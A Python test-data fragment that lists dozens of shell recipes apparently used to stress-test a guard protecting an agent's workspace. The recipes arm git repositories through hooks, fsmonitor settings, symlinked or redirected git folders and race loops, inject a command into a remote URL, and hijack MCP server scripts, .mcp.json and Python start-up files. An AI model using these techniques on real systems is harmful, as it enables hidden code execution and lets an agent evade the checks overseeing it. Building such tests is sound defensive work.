        "plain area/a/.git; yes '# a comment that goes on and on and on and on and on' "
        "| head -c 4000000 >> area/a/.git/config; printf '\\n' >> area/a/.git/config; "
        "arm area/a/.git/config",
    ),
    _trick(
        "settings that another worktree of a new repository has",
        "plain area/a/.git; mkdir -p area/a/.git/worktrees/w area/w\n"
        "printf '[extensions]\\n\\tworktreeConfig = true\\n' >> area/a/.git/config\n"
        "printf '../..\\n' > area/a/.git/worktrees/w/commondir\n"
        "printf 'ref: refs/heads/w\\n' > area/a/.git/worktrees/w/HEAD\n"
        "printf '{root}/area/w/.git\\n' > area/a/.git/worktrees/w/gitdir\n"
        "printf 'gitdir: {root}/area/a/.git/worktrees/w\\n' > area/w/.git\n"
        "arm area/a/.git/worktrees/w/config.worktree",
    ),
    _trick(
        "index that asks the watcher of an included file",
        "commits area/a; git -C area/a update-index --fsmonitor\n"
        "printf '[include]\\n\\tpath = sharedindex.settings\\n' >> area/a/.git/config\n"
        "arm area/a/.git/sharedindex.settings",
    ),
]

_PUSHED = (
    "commits area/b; git -C area/a remote add origin ../b\n"
    "git -C area/b config receive.denyCurrentBranch ignore"
)

_NEW_HOOKS = [
    _hook("pre-commit"),
    _hook("prepare-commit-msg"),
    _hook("commit-msg"),
    _hook("post-commit"),
    _hook("post-rewrite"),
    _hook("post-index-change"),
    _hook("reference-transaction"),
    _hook("pre-push", _PUSHED),
    _hook(
        "pre-auto-gc",
        "git -C area/a config gc.auto 1; mkdir -p area/a/.git/objects/17\n"
        "for i in 1 2 3; do printf x > area/a/.git/objects/17/$(printf '%038d' $i); done",
    ),
    _hook(
        "fsmonitor-watchman", "git -C area/a config core.fsmonitor .git/hooks/fsmonitor-watchman"
    ),
    *(
        _trick(
            f"new repository to push to with the hook {name}",
            f"commits area/a; {_PUSHED}; script area/b/.git/hooks/{name}; {more}",
        )
        for name, more in (
            ("pre-receive", ""),
            ("update", ""),
            ("post-receive", ""),
            ("post-update", ""),
            ("proc-receive", "git -C area/b config receive.procReceiveRefs refs/heads"),
        )
    ),
    _trick(
        "hooks folder that is a link",
        "commits area/a; script area/h/pre-commit; ln -s ../../h area/a/.git/hooks",
    ),
    _trick(
        "hook that is a link",
        "commits area/a; script area/a/check; mkdir area/a/.git/hooks; "
        "ln -s ../../check area/a/.git/hooks/pre-commit",
    ),
    _trick(
        "hook that is a link for whoever looks from its folder",
        "commits area/a; script area/a/check; mkdir area/a/.git/hooks; "
        "ln -s /proc/self/cwd/check area/a/.git/hooks/pre-commit",
    ),
    _trick(
        "hook in the common folder of a new worktree",
        "commits area/a; git -C area/a worktree add -q ../w; script area/a/.git/hooks/pre-commit",
    ),
]

_NEW_SHAPES = [
    _trick("link to an armed folder", "armed area/s; mkdir area/a; ln -s ../s area/a/.git"),
    _trick(
        "link to an armed folder, for whoever looks from its folder",
        "armed area/a/s; ln -s /proc/self/cwd/s area/a/.git",
    ),
    _trick(
        "pointer to an armed folder",
        "armed area/s; mkdir area/a; printf 'gitdir: ../s\\n' > area/a/.git",
    ),
    _trick(
        "pointer by way of the parent of the root",
        "armed area/s; mkdir area/a; "
        "printf 'gitdir: %s/../%s/area/s\\n' '{root}' \"$(basename '{root}')\" > area/a/.git",
    ),
    _trick(
        "pointer through a process's root",
        "armed area/s; mkdir area/a; printf 'gitdir: /proc/self/root{root}/area/s\\n' > area/a/.git",
    ),
    _trick(
        "pointer for whoever looks from its folder",
        "armed area/a/s; printf 'gitdir: /proc/self/cwd/s\\n' > area/a/.git",
    ),
    _trick(
        "pointer through a link and dots",
        "plain area/a/s; armed area/d/s; mkdir area/d/e; ln -s ../d/e area/a/jump; "
        "printf 'gitdir: jump/../s\\n' > area/a/.git",
    ),
    _trick(
        "pointer whose name ends with a blank",
        "plain area/a/s; armed 'area/a/s '; printf 'gitdir: s \\n' > area/a/.git",
    ),
    _trick(
        "pointer whose name has a line break",
        "plain area/a/s; armed $'area/a/s\\nt'; printf 'gitdir: s\\nt\\r\\n\\n' > area/a/.git",
    ),
    _trick(
        "pointer with a zero byte",
        "plain area/a/s; armed area/a/t; printf 'gitdir: t\\0/../s\\n' > area/a/.git",
    ),
    _trick(
        "pointer to a name that is no UTF-8",
        "armed $'area/a/\\xff\\xfe'; printf 'gitdir: \\xff\\xfe\\n' > area/a/.git",
    ),
    _trick(
        "pointer into the git folder of a harmless repository",
        "plain area/b/.git; armed area/b/.git/modules/m; mkdir area/a; "
        "printf 'gitdir: ../b/.git/modules/m\\n' > area/a/.git",
    ),
    _trick(
        "common folder elsewhere",
        "plain area/a/.git; armed area/s; printf '../../s\\n' > area/a/.git/commondir",
    ),
    _trick(
        "common folder elsewhere, and settings that are a pipe",
        "plain area/a/.git; rm area/a/.git/config; mkfifo area/a/.git/config\n"
        "armed area/s; printf '../../s\\n' > area/a/.git/commondir",
    ),
    _trick(
        "common folder elsewhere, and settings that are a socket",
        "plain area/a/.git; rm area/a/.git/config\n"
        "cd area/a/.git; python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"config\")'\n"
        "cd ../../..; armed area/s; printf '../../s\\n' > area/a/.git/commondir",
    ),
    _trick(
        "settings that are a link",
        "plain area/a/.git; mv area/a/.git/config area/a/own; arm area/a/own; "
        "ln -s ../own area/a/.git/config",
    ),
    _trick(
        "objects and references that are files",
        "armed area/a/.git; rm -r area/a/.git/objects area/a/.git/refs\n"
        "script area/a/.git/objects; script area/a/.git/refs",
    ),
    _trick(
        "objects and references that are links",
        "armed area/a/.git; mv area/a/.git/objects area/o; mv area/a/.git/refs area/r\n"
        "ln -s ../../o area/a/.git/objects; ln -s ../../r area/a/.git/refs",
    ),
    _trick(
        "head that is a dangling link",
        "armed area/a/.git; rm area/a/.git/HEAD; ln -s refs/heads/main area/a/.git/HEAD",
    ),
    _trick(
        "head that names no branch",
        "armed area/a/.git; printf '%040d\\n' 7 > area/a/.git/HEAD",
    ),
    _trick("bare repository in a new folder", "bare area/a"),
    _trick("bare repository in a folder of the person", "bare docs"),
    _trick("bare repository in an ignored folder", "bare build"),
    _trick("bare repository in an editor's folder", "bare .vscode"),
    _trick("bare repository over a nested repository", "bare vendor/deep"),
    _trick("bare repository in the folder of bare repositories", "bare stores"),
    _trick(
        "bare repository of a head and a common folder",
        "bare area/s; rm area/s/HEAD; mkdir area/a; "
        "printf 'ref: refs/heads/main\\n' > area/a/HEAD; printf '../s\\n' > area/a/commondir",
    ),
    _trick(
        "bare repository whose references are files",
        "bare area/a; rm -r area/a/objects area/a/refs; script area/a/objects; script area/a/refs",
    ),
    _trick(
        "bare repository whose folders are links",
        "bare area/s; rm area/s/HEAD; mkdir area/a; ln -s refs/heads/main area/a/HEAD; "
        "for name in objects refs config; do ln -s ../s/$name area/a/$name; done",
    ),
    _trick(
        "armed folder that is bare when its name changes",
        "bare area/a/.git; printf '[core]\\n\\tworktree = ..\\n' >> area/a/.git/config",
    ),
    _trick("armed folder in a folder that is bare itself", "bare area/a; armed area/a/.git"),
    _trick(
        "pointer to an armed folder that is bare itself",
        "bare area/s; mkdir area/a; printf 'gitdir: ../s\\n' > area/a/.git",
    ),
    _trick(
        "armed folders in a chain of folders",
        "for f in a a/b a/b/c a/b/c/d; do armed area/$f/.git; done",
    ),
    _trick(
        "armed folder whose new name is taken by a folder",
        "armed area/a/.git; mkdir -p area/a/.git.refused/full",
    ),
    _trick(
        "armed folder whose new name is taken by a file",
        "armed area/a/.git; printf x > area/a/.git.refused",
    ),
    _trick(
        "armed folder whose new name is taken by a link",
        "armed area/a/.git; ln -s .git area/a/.git.refused",
    ),
    _trick(
        "armed folder whose new names are all taken",
        "armed area/a/.git; cd area/a; mkdir .git.refused .git.refused{-,.,_,}{1..200}",
    ),
    _trick(
        "armed pointer whose new name is taken",
        "armed area/s; mkdir -p area/a/.git.refused/full; printf 'gitdir: ../s\\n' > area/a/.git",
    ),
    _trick(
        "armed folder in a folder that cannot be written",
        "armed area/a/.git; chmod 0555 area/a area/a/.git",
    ),
    _trick(
        "armed folder that cannot be listed",
        "mkdir area/a; mkdir -m 0311 area/a/.git; armed area/a/.git",
    ),
    _trick(
        "armed folder in a folder that cannot be listed", "mkdir -m 0311 area/a; armed area/a/.git"
    ),
    _trick(
        "armed folder in folders that cannot be listed or written",
        "armed area/a/b/c/.git; chmod 0111 area/a/b/c/.git area/a/b/c area/a/b area/a",
    ),
    _trick(
        "armed folder whose settings only the owner's program may read",
        "armed area/a/.git; chmod 0400 area/a/.git/config; chmod 0500 area/a/.git",
    ),
    _trick("armed folder in the editor's folder", "armed .idea/.git; armed .vscode/x/.git"),
    _trick("armed folder in an ignored folder", "armed build/x/.git"),
    _trick(
        "armed folder in the folder of packages",
        "armed .venv/lib/x/.git; armed node_modules/x/.git",
    ),
    _trick("armed folder in a folder of bytecode", "armed servers/__pycache__/.git"),
    _trick("armed folder with a line break above it", "armed $'area/a\\nb\\r\\x1b[2J/.git'"),
    _trick("armed folder below a name that is no UTF-8", "armed $'area/\\xff\\xfe\\x80/.git'"),
    _trick(
        "armed folder below names with letters of several forms",
        "armed $'area/e\\u0301\\u202e/.git'; armed $'area/\\u00e9\\u202e/.git'",
    ),
    _trick(
        "armed folder below a name of blanks and dots",
        "armed 'area/ ... /.git'; armed 'area/-rf *?/.git'",
    ),
    _trick(
        "armed folder below a folder named like one renamed", "armed area/a/.git.refused/b/.git"
    ),
    _trick(
        "armed folder below a folder named .git in other letters",
        "armed area/a/.GIT/.git; armed 'area/a/.git /.git'; armed area/a/git~1/.git",
    ),
    _trick(
        "armed folder below a folder named .git",
        "mkdir -p area/a/.git; armed area/a/.git/.git; armed area/a/b/.git",
    ),
    _trick(
        "armed folder below the root's hooks",
        "armed hooks/x/.git; armed settings/x/.git; armed servers/x/.git",
    ),
    _trick(
        "armed folder a thousand folders deep", "d=$(printf 'd/%.0s' {1..1000}); armed area/$d/.git"
    ),
    _trick(
        "armed folder at the longest path that git takes",
        "cd area; n=$(printf 'n%.0s' {1..200})\n"
        "while [ ${#PWD} -lt 3700 ]; do mkdir $n && cd $n || exit; done\n"
        "rest=$((4081 - ${#PWD})); n=$(head -c 4096 /dev/zero | tr '\\0' m)\n"
        "mkdir ${n:0:rest / 2} && cd ${n:0:rest / 2}; rest=$((4081 - ${#PWD}))\n"
        "mkdir ${n:0:rest} && cd ${n:0:rest}; armed .git",
    ),
    _trick(
        "armed folder beyond the longest path, moved up later",
        "cd area; n=$(printf 'n%.0s' {1..250})\n"
        "for i in {1..25}; do mkdir $n && cd $n || exit; done; armed x/.git",
        "cd area; n=$(printf 'n%.0s' {1..250})\n"
        "for i in {1..24}; do mv $n/$n up; rmdir $n; mv up $n; done; mv $n/x x",
    ),
    _trick(
        "armed folder behind five thousand folders",
        "mkdir -p area/f{1..1000}/{a,b,c,d}; armed area/f500/c/.git; armed area/zz/.git",
    ),
    _trick(
        "armed folder behind thousands of files",
        "plain area/a/.git; mkdir area/a/.git/objects/aa\n"
        "cd area/a/.git/objects/aa; touch {1..2500}; cd ../..; touch {1..1500}; arm config",
    ),
    _trick(
        "armed folder among two hundred and fifty harmless ones",
        "plain area/r100/.git; for i in {101..350}; do cp -r area/r100 area/r$i; done; "
        "arm area/r243/.git/config",
    ),
    _trick(
        "many armed folders at once",
        "armed area/r100/.git; for i in {101..299}; do cp -r area/r100 area/r$i; done",
    ),
    _trick(
        "armed folder behind loops of links and pipes named .git",
        "mkdir -p area/a/b area/a/c area/a/d; ln -s .. area/a/up; ln -s .git area/a/b/.git\n"
        "mkfifo area/a/c/.git; ln -s ../../.. area/a/d/.git; armed area/a/z/.git",
    ),
    _trick(
        "armed folder behind pointers in a circle",
        "mkdir -p area/a/b area/a/c; printf 'gitdir: ../c/.git\\n' > area/a/b/.git\n"
        "printf 'gitdir: ../b/.git\\n' > area/a/c/.git; armed area/a/z/.git",
    ),
]

_MESSAGE = (
    "commits area/a; cd area/a; printf '#!/bin/sh\\n{program}\\n' > ../m\n"
    "git -c user.name=a -c user.email=a@b commit -q --amend --cleanup=verbatim -F ../m\n"
    "cd ../..; "
)

_WRITTEN_BY_GIT = [
    _trick(
        "message written to a hook through a link",
        _MESSAGE + "rm -f area/a/.git/COMMIT_EDITMSG; "
        "ln -s {root}/hooks/pre-commit area/a/.git/COMMIT_EDITMSG",
    ),
    _trick(
        "message written to an alias's script through a link",
        _MESSAGE + "rm -f area/a/.git/COMMIT_EDITMSG; "
        "ln -s ../../../scripts/st.sh area/a/.git/COMMIT_EDITMSG",
    ),
    _trick(
        "message written to its own hook through a hard link",
        _MESSAGE + "mkdir area/a/.git/hooks; cp /bin/true area/a/.git/hooks/post-commit\n"
        ": > area/a/.git/hooks/post-commit; rm -f area/a/.git/COMMIT_EDITMSG\n"
        "ln area/a/.git/hooks/post-commit area/a/.git/COMMIT_EDITMSG",
    ),
    _trick(
        "fetched addresses written to a hook through a link",
        "commits area/a; commits 'area/b;{program};'\n"
        "git -C area/a remote add origin '{root}/area/b;{program};'\n"
        "rm -f area/a/.git/FETCH_HEAD; ln -s {root}/hooks/pre-commit area/a/.git/FETCH_HEAD",
    ),
]

_TWO_STEPS = [
    _trick(
        "settings written later through a hard link",
        "plain area/a/.git; ln area/a/.git/config area/a/own",
        "arm area/a/own",
    ),
    _trick(
        "settings written later through their link",
        "plain area/a/.git; mv area/a/.git/config area/a/own; ln -s ../own area/a/.git/config",
        "arm area/a/own",
    ),
    _trick(
        "included file created later",
        "plain area/a/.git; printf '[include]\\n\\tpath = ../own\\n' >> area/a/.git/config",
        "arm area/a/own",
    ),
    _trick(
        "included file written later",
        "plain area/a/.git; printf '[include]\\n\\tpath = ../own\\n' >> area/a/.git/config; "
        "printf '[user]\\n\\tname = a\\n' > area/a/own",
        "arm area/a/own",
    ),
    _trick(
        "folder of hooks created later",
        "commits area/a; git -C area/a config core.hooksPath checks",
        "script area/a/checks/pre-commit",
    ),
    _trick(
        "folder of hooks filled later through its link",
        "commits area/a; mkdir area/h; ln -s ../../h area/a/.git/hooks",
        "script area/h/pre-commit",
    ),
    _trick(
        "hook created later where its link leads",
        "commits area/a; mkdir area/a/.git/hooks; ln -s ../../check area/a/.git/hooks/pre-commit",
        "script area/a/check",
    ),
    _trick(
        "hook made executable later through a hard link",
        "commits area/a; mkdir area/a/.git/hooks; "
        "printf '#!/bin/sh\\n{program}\\n' > area/a/.git/hooks/pre-commit; "
        "ln area/a/.git/hooks/pre-commit area/a/check",
        "chmod +x area/a/check",
    ),
    _trick(
        "pointer to a folder made later",
        "mkdir area/a; printf 'gitdir: ../s\\n' > area/a/.git",
        "armed area/s",
    ),
    _trick(
        "pointer to a folder whose settings come later",
        "plain area/s; mkdir area/a; printf 'gitdir: ../s\\n' > area/a/.git",
        "arm area/s/config; [ -e area/s/config ] || armed area/s",
    ),
    _trick(
        "pointer to a folder moved away and made anew later",
        "plain area/d/s; mkdir area/a; printf 'gitdir: ../d/s\\n' > area/a/.git",
        "mv area/d area/e; armed area/d/s",
    ),
    _trick(
        "link to a folder made later",
        "mkdir area/a; ln -s ../s area/a/.git",
        "armed area/s",
    ),
    _trick(
        "common folder made later",
        "plain area/a/.git; printf '../../s\\n' > area/a/.git/commondir",
        "armed area/s",
    ),
    _trick(
        "common folder armed later",
        "plain area/s; plain area/a/.git; printf '../../s\\n' > area/a/.git/commondir",
        "arm area/s/config",
    ),
    _trick(
        "armed folder without a head that comes later",
        "armed area/a/.git; rm area/a/.git/HEAD",
        "printf 'ref: refs/heads/main\\n' > area/a/.git/HEAD",
    ),
    _trick(
        "armed folder without references that come later",
        "armed area/a/.git; rm -r area/a/.git/refs",
        "mkdir area/a/.git/refs",
    ),
    _trick(
        "armed folder whose references are a link filled later",
        "armed area/a/.git; rm -r area/a/.git/refs; ln -s ../../r area/a/.git/refs",
        "mkdir area/r",
    ),
    _trick(
        "bare repository whose head comes later",
        "bare area/a; rm area/a/HEAD",
        "printf 'ref: refs/heads/main\\n' > area/a/HEAD",
    ),
    _trick(
        "armed folder in other letters, renamed later",
        "armed area/a/.GIT",
        "mv area/a/.GIT area/a/.git",
    ),
    _trick(
        "armed folder renamed back later",
        "armed area/a/.git",
        "cd area/a; [ -e .git ] || for name in .git.refused*; do mv -T $name .git; done",
    ),
    _trick(
        "armed folder copied back later",
        "armed area/a/.git",
        "cd area/a; [ -e .git ] || cp -r .git.refused* .git",
    ),
    _trick(
        "pointer to what was renamed",
        "armed area/a/.git; mkdir area/b; printf 'gitdir: ../a/.git.refused\\n' > area/b/.git",
        "cd area/a; [ -e .git.refused ] || cp -r .git .git.refused",
    ),
    _trick(
        "harmless repository moved away and made anew later",
        "plain area/a/.git",
        "mv area/a area/b; armed area/a/.git",
    ),
    _trick(
        "harmless repository exchanged with old times and size",
        "plain area/a/.git; printf '# {program}############\\n' >> area/a/.git/config",
        "cd area; cp -a a b; printf '[core]\\n\\trepositoryformatversion = 0\\n"
        "\\tbare = false\\n' > b/.git/config; printf '[core]fsmonitor={program}\\n' "
        ">> b/.git/config; touch -r a/.git/config b/.git/config; touch -r a/.git b/.git; "
        "touch -r a b; mv -T a c; mv -T b a",
    ),
    _trick(
        "harmless repository copied and armed later",
        "plain area/a/.git",
        "cp -a area/a area/b; arm area/b/.git/config",
    ),
    _trick(
        "settings of the worktree created later",
        "plain area/a/.git; printf '[extensions]\\n\\tworktreeConfig = true\\n' "
        ">> area/a/.git/config",
        "arm area/a/.git/config.worktree",
    ),
    _trick(
        "settings of the worktree created later where their link leads",
        "plain area/a/.git; printf '[extensions]\\n\\tworktreeConfig = true\\n' "
        ">> area/a/.git/config; ln -s ../own area/a/.git/config.worktree",
        "arm area/a/own",
    ),
    _trick(
        "cleaning program of an accepted repository created later",
        "commits area/a; git -C area/a config filter.own.clean ./tidy; "
        "printf '*.txt filter=own\\n' > area/a/.gitattributes",
        "script area/a/tidy",
    ),
    _trick(
        "new worktree of an accepted repository",
        "commits area/a",
        "mkdir -p area/w area/a/.git/worktrees/w; armed area/s; "
        "printf 'gitdir: ../s\\n' > area/w/.git",
    ),
    _trick(
        "parent link turned later",
        "plain area/p/a/.git; ln -s p area/q; mkdir area/w; "
        "printf 'gitdir: ../q/a/.git\\n' > area/w/.git",
        "armed area/o/a/.git; ln -sfn o area/q",
    ),
]

_RACES = [
    _trick(
        "arm a new repository after the command has ended",
        'detach bash -c "$(declare -f config arm plain armed); sleep 0.4; armed area/late/.git"',
    ),
    _trick(
        "arm an accepted repository after the command has ended",
        'plain area/a/.git; detach bash -c "$(declare -f arm); sleep 0.4; arm area/a/.git/config"',
    ),
    _trick(
        "go on writing the settings of a new repository",
        "plain area/a/.git; exec 3>> area/a/.git/config\n"
        "detach bash -c 'for i in {1..5000}; do "
        'printf "[core]\\n\\tfsmonitor = {program}\\n" 1<> area/a/.git/config; done\'; sleep 0.1',
    ),
    _trick(
        "go on making armed repositories",
        'detach bash -c "$(declare -f config arm plain armed); '
        'for i in {1..300}; do armed area/r\\$i/.git; done"; sleep 0.2',
    ),
    _trick(
        "go on renaming the folder over an armed repository",
        "armed area/x/.git\n"
        "detach bash -c 'for i in {1..150}; do mv -T area/x area/y; mv -T area/y area/x; done'; "
        "sleep 0.1",
    ),
    _trick(
        "go on moving an armed repository between two folders",
        "armed area/x/.git; mkdir area/y\n"
        "detach bash -c 'for i in {1..150}; do "
        "mv -T area/x/.git area/y/.git; mv -T area/y/.git area/x/.git; done'; sleep 0.1",
    ),
    _trick(
        "go on exchanging an armed folder with a harmless one and its copy",
        "armed area/x/.git; plain area/g; bare area/h\n"
        "detach python3 -c 'import ctypes\nfor _ in range(300_001): "
        'ctypes.CDLL(None).renameat2(-100, b"area/x/.git", -100, b"area/h", 2)\'; sleep 0.1',
    ),
    _trick(
        "go on filling the new name of a refused folder",
        "armed area/a/.git\n"
        "detach bash -c 'for i in {1..3000}; do mkdir -p area/a/.git.refused/full; done'; "
        "sleep 0.1",
    ),
    _trick(
        "make a repository again whenever it is gone",
        "armed area/a/.git; cp -r area/a/.git area/copy\n"
        "detach bash -c 'for i in {1..1000}; do cp -r area/copy area/a/.git.new && "
        "mv -T area/a/.git.new area/a/.git; rm -rf area/a/.git.new; done' ; sleep 0.1",
    ),
    _trick(
        "end the first process and go on",
        'plain area/a/.git; detach bash -c \'trap "" TERM INT HUP; '
        'printf "[core]\\n\\tfsmonitor = {program}\\n" >> area/a/.git/config; sleep 3\'; '
        "sleep 0.1; kill -9 $$",
    ),
]

_RUN = "import subprocess; subprocess.run(['{program}'])"
_SERVER_JSON = json.dumps({"mcpServers": {"notes": {"command": "{program}", "args": []}}})

_SERVER_TRICKS = [
    _trick("rewrite the script of a server", f'printf "%s\\n" "{_RUN}" > servers/notes.py'),
    _trick(
        "exchange the script of a server by renaming",
        f'printf "%s\\n" "{_RUN}" > area/n; mv -f area/n servers/notes.py',
    ),
    _trick(
        "exchange the folder of a server",
        f'mv servers area/old; mkdir servers; printf "%s\\n" "{_RUN}" > servers/notes.py',
    ),
    _trick(
        "exchange the folder of a server for a link",
        f'mv servers area/old; mkdir area/s; printf "%s\\n" "{_RUN}" > area/s/notes.py; '
        "ln -s area/s servers",
    ),
    _trick(
        "script of a server written later through a hard link",
        "ln servers/notes.py area/n",
        f'printf "%s\\n" "{_RUN}" > area/n',
    ),
    _trick("rewrite the list of servers", f"printf '%s\\n' '{_SERVER_JSON}' > .mcp.json"),
    _trick(
        "exchange the list of servers by renaming",
        f"printf '%s\\n' '{_SERVER_JSON}' > area/m; mv -f area/m .mcp.json",
    ),
    _trick(
        "exchange the list of servers for a link",
        f"printf '%s\\n' '{_SERVER_JSON}' > area/m; rm -f .mcp.json; ln -s area/m .mcp.json",
    ),
    _trick(
        "exchange the link to a server's imports",
        "mkdir -p area/library; rm -f servers/library; "
        f'printf "%s\\n" "{_RUN}" > area/library/helpers.py; ln -s ../area/library servers/library',
    ),
    _trick(
        "rewrite a module that a server imports", f'printf "%s\\n" "{_RUN}" > library/helpers.py'
    ),
    _trick(
        "shadow a module beside a server's script", f'printf "%s\\n" "{_RUN}" > servers/json.py'
    ),
    _trick(
        "plant stale bytecode of a server's module",
        f'printf "%s\\n" "{_RUN}" > area/helpers.py\n'
        '.venv/bin/python -c "import py_compile, importlib.util as u; py_compile.compile('
        "'area/helpers.py', u.cache_from_source('library/helpers.py'), "
        'invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)"',
    ),
    _trick(
        "start module in the packages of a server's python",
        "sed -i 's/false/true/' .venv/pyvenv.cfg; cd .venv/lib/python*/site-packages\n"
        f'printf "%s\\n" "{_RUN}" | tee sitecustomize.py > usercustomize.py',
    ),
    _trick(
        "path file in the packages of a server's python",
        f'for f in .venv/lib/python*/site-packages; do printf "%s\\n" "{_RUN}" > $f/a.pth; done',
    ),
    _trick(
        "exchange a server's python",
        "rm -f .venv/bin/python; script .venv/bin/python",
    ),
    _trick(
        "exchange the folder of a server's python",
        "mv .venv/bin .venv/old; script .venv/bin/python",
    ),
    _trick(
        "exchange the whole environment of a server", "mv .venv area/old; script .venv/bin/python"
    ),
    _trick(
        "turn a server's python to other libraries",
        "home=$(sed -n 's/^home = //p' .venv/pyvenv.cfg)\n"
        'real=$(basename "$(ls -d .venv/lib/python*)")\n'
        'mkdir -p area/p/bin area/p/lib/$real; ln -s "$home"/../lib/$real/* area/p/lib/$real/\n'
        "rm -f area/p/lib/$real/sitecustomize.py\n"
        f'printf "%s\\n" "{_RUN}" > area/p/lib/$real/sitecustomize.py\n'
        "printf 'home = {root}/area/p/bin\\n' > .venv/pyvenv.cfg",
    ),
]

TRICKS: list[Trick] = [
    *_WRITE_PROTECTED,
    *_WRITE_NAMED_PROGRAMS,
    *_WRITE_OTHER_REPOSITORIES,
    *_NEW_SETTINGS,
    *_NEW_HOOKS,
    *_NEW_SHAPES,
    *_WRITTEN_BY_GIT,
    *_TWO_STEPS,
    *_RACES,
    *_SERVER_TRICKS,
]
